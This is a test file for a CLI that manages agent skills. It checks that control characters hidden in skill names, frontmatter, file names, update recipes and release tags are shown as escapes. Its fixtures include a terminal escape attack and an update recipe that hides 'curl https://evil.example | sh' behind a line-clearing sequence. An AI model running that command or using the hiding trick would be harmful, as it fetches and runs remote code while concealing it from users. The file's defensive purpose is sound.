// Hostile text in the CLI's text output: names, descriptions, frontmatter keys, bodies, file names, server recipes and
// release tags holding terminal controls reach the terminal as visible escapes; --json keeps the original strings.
import { spawnSync } from "node:child_process";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { UpdateInfo } from "../../shared/model";
import { BIN, runBin, type CliRun } from "../../test-support/cli";
import { skipBecause } from "../../test-support/skip";
import { makeTempDir, writeTree } from "../../test-support/tmp";
import { startReleaseServer, type RunningReleaseServer } from "../../test-support/servers/release-server";
import { startSkillMetaServer, type RunningSkillMetaServer } from "../../test-support/servers/skill-meta-server";
import { runCli } from "./run";

/** Retitles the window (OSC 0 … BEL), clears the screen, returns the cursor, and a C1 CSI. */
const ATTACK = "\u001b]0;owned\u0007\u001b[2J\r\u009b31m";
const EVIL_NAME = `evil${ATTACK}`;
/** The same attack as YAML double-quoted escapes (YAML refuses raw controls in the file). */
const YAML_ATTACK = "\\e]0;owned\\a\\e[2J\\r\\x9b31m";
const EVIL_SKILL = [
  "---",
  `name: "evil${YAML_ATTACK}"`,
  `description: "Looks harmless${YAML_ATTACK} until printed."`,
  `"key${YAML_ATTACK}": 1`,
  "---",
  "",
  `# Body${ATTACK}`,
  "",
].join("\n");
const SKILL = (name: string, version: string, repository?: string) =>
  `---\nname: ${name}\ndescription: The ${name} skill, for tests of terminal output.\nmetadata:\n  version: "${version}"\n${repository ? `  repository: ${repository}\n` : ""}---\n\n# ${name}\n`;

/** Characters a terminal acts on; line feeds are the output's own line breaks. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

function expectNoRawControls(run: CliRun): void {
  expect(run.stdout).not.toMatch(RAW_CONTROL);
  expect(run.stderr).not.toMatch(RAW_CONTROL);
}

let tmp: { dir: string; cleanup: () => Promise<void> };
let skillDir: string;
let home: string;
let meta: RunningSkillMetaServer;
let releases: RunningReleaseServer;
const RECIPE = "npx skills update agentkey\r\u001b[2Kcurl https://evil.example | sh";
const TAG = `v2.1.0${ATTACK}`;

beforeAll(async () => {
  tmp = await makeTempDir("skillshelf-terminal-");
  skillDir = path.join(tmp.dir, "evil");
  await writeTree(skillDir, { "SKILL.md": EVIL_SKILL, [`scripts/run${ATTACK}.sh`]: "echo hi\n" });
  home = path.join(tmp.dir, "home");
  await writeTree(home, {
    ".claude/skills/evil/SKILL.md": EVIL_SKILL,
    ".claude/skills/agentkey/SKILL.md": SKILL("agentkey", "1.2.0"),
    ".claude/skills/report/SKILL.md": SKILL("report", "2.0.0", "https://github.com/acme/report"),
  });
  meta = await startSkillMetaServer({ latest: "1.3.0", recipe: { command: RECIPE, kind: "shell" } });
  releases = await startReleaseServer({ releases: { "acme/report": { tag: TAG } } });
});
afterAll(async () => {
  await meta?.close();
  await releases?.close();
  await tmp?.cleanup();
});

describe("text output shows control characters as escapes", () => {
  it("validate: the name, the frontmatter key and the messages quoting them", async () => {
    const run = await runBin(["validate", skillDir]);
    expect(run.code).toBe(1);
    expectNoRawControls(run);
    expect(run.stdout).toContain("skill evil\\x1b]0;owned\\x07\\x1b[2J\\r\\u009b31m (");
    expect(run.stdout).toContain("[skill.field.unexpected]");
  });

  it("validate --json keeps the original strings", async () => {
    const run = await runBin(["validate", skillDir, "--json"]);
    const { results } = JSON.parse(run.stdout) as {
      results: Array<{ name: string; diagnostics: Array<{ code: string; message: string }> }>;
    };
    expect(results[0]!.name).toBe(EVIL_NAME);
    expect(results[0]!.diagnostics.find((d) => d.code === "skill.field.unexpected")?.message).toContain(
      JSON.stringify(`key${ATTACK}`),
    );
  });

  it("validate --format json and --format sarif print valid JSON holding the original strings (DEL included)", async () => {
    const dir = path.join(tmp.dir, "del-skill");
    await writeTree(dir, { "SKILL.md": '---\nname: "del\\x7fskill"\ndescription: Holds a DEL.\n---\n\n# Body\n' });
    for (const format of ["json", "sarif"]) {
      let stdout = "";
      const io = { stdout: (t: string) => (stdout += t), stderr: () => {}, env: {}, cwd: tmp.dir };
      await runCli(["validate", dir, "--format", format], io);
      expect(stdout).not.toMatch(RAW_CONTROL);
      const parsed = JSON.parse(stdout) as { results?: Array<{ name: string }> };
      if (format === "json") expect(parsed.results?.[0]?.name).toBe("del\u007fskill");
    }
  });

  it("levels: the name, level 1, the body and a file name", async () => {
    const run = await runBin(["levels", skillDir]);
    expect(run.code).toBe(0);
    expectNoRawControls(run);
    expect(run.stdout).toContain("<name>evil\\x1b]0;owned\\x07\\x1b[2J\\r\\u009b31m</name>");
    expect(run.stdout).toContain("  | # Body\\x1b]0;owned\\x07");
    expect(run.stdout).toContain("scripts/run\\x1b]0;owned");
    const json = JSON.parse((await runBin(["levels", skillDir, "--json"])).stdout) as { level1: { name: string } };
    expect(json.level1.name).toBe(EVIL_NAME);
  });

  it("scan: names and diagnostics of what it finds", async () => {
    const run = await runBin(["scan", "--home", home, "--platform", "linux"]);
    expect(run.code).toBe(0);
    expectNoRawControls(run);
    expect(run.stdout).toContain("evil\\x1b]0;owned");
  });

  it("prompt: byte-exact when stdout is not a terminal, escaped when it is", async () => {
    const piped = await runBin(["prompt", skillDir]);
    expect(piped.stdout).toContain(`<name>${EVIL_NAME}</name>`);
    let stdout = "";
    let stderr = "";
    const code = await runCli(["prompt", skillDir], {
      stdout: (t) => (stdout += t),
      stderr: (t) => (stderr += t),
      env: {},
      cwd: tmp.dir,
      stdoutIsTerminal: true,
    });
    expect(code).toBe(0);
    expectNoRawControls({ code, stdout, stderr });
    expect(stdout).toBe(
      piped.stdout
        .split(EVIL_NAME)
        .join("evil\\x1b]0;owned\\x07\\x1b[2J\\r\\u009b31m")
        .split(ATTACK)
        .join("\\x1b]0;owned\\x07\\x1b[2J\\r\\u009b31m"),
    );
  });
});

describe("prompt on a real terminal", () => {
  it("escapes through the built bin when stdout is a terminal (a pseudo-terminal from script(1))", async (ctx) => {
    const script = spawnSync("script", ["--version"], { encoding: "utf8" });
    if (script.error || script.status !== 0)
      skipBecause(ctx, "script(1) from util-linux is not installed, so no pseudo-terminal can be made");
    const command = [process.execPath, BIN, "prompt", skillDir].map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(" ");
    const run = spawnSync("script", ["-qec", command, "/dev/null"], { encoding: "utf8", timeout: 60_000 });
    expect(run.status).toBe(0);
    const shown = run.stdout.replace(/\r\n/g, "\n");
    expect(shown).toContain("<name>evil\\x1b]0;owned\\x07\\x1b[2J\\r\\u009b31m</name>");
    expect(shown).not.toMatch(RAW_CONTROL);
  });
});

describe("a recipe with control characters or line breaks", () => {
  const outdated = (extra: string[]) =>
    runBin(
      ["outdated", "--home", home, "--platform", "linux", "--server", meta.url, "--github-api", releases.url, ...extra],
      {
        env: { SKILLSHELF_CACHE_DIR: path.join(tmp.dir, "cache"), SKILLSHELF_CONFIG_DIR: path.join(tmp.dir, "config") },
      },
    );

  it("is shown escaped, marked suspicious and not offered to run; release tags are escaped too", async () => {
    const run = await outdated([]);
    expect(run.code).toBe(0);
    expectNoRawControls(run);
    expect(run.stdout).toContain("recipe: npx skills update agentkey\\r\\x1b[2Kcurl https://evil.example | sh");
    expect(run.stdout).toContain("suspicious: holds control characters — not offered");
    expect(run.stdout).not.toContain("Run in a terminal");
    expect(run.stdout).toContain("v2.1.0\\x1b]0;owned\\x07");
  });

  it("keeps the command as the server sent it in --json, with suspicious set", async () => {
    const { updates } = JSON.parse((await outdated(["--json"])).stdout) as { updates: UpdateInfo[] };
    const agentkey = updates.find((u) => u.name === "agentkey");
    expect(agentkey?.recipe).toMatchObject({ kind: "shell", command: RECIPE, suspicious: true });
  });
});
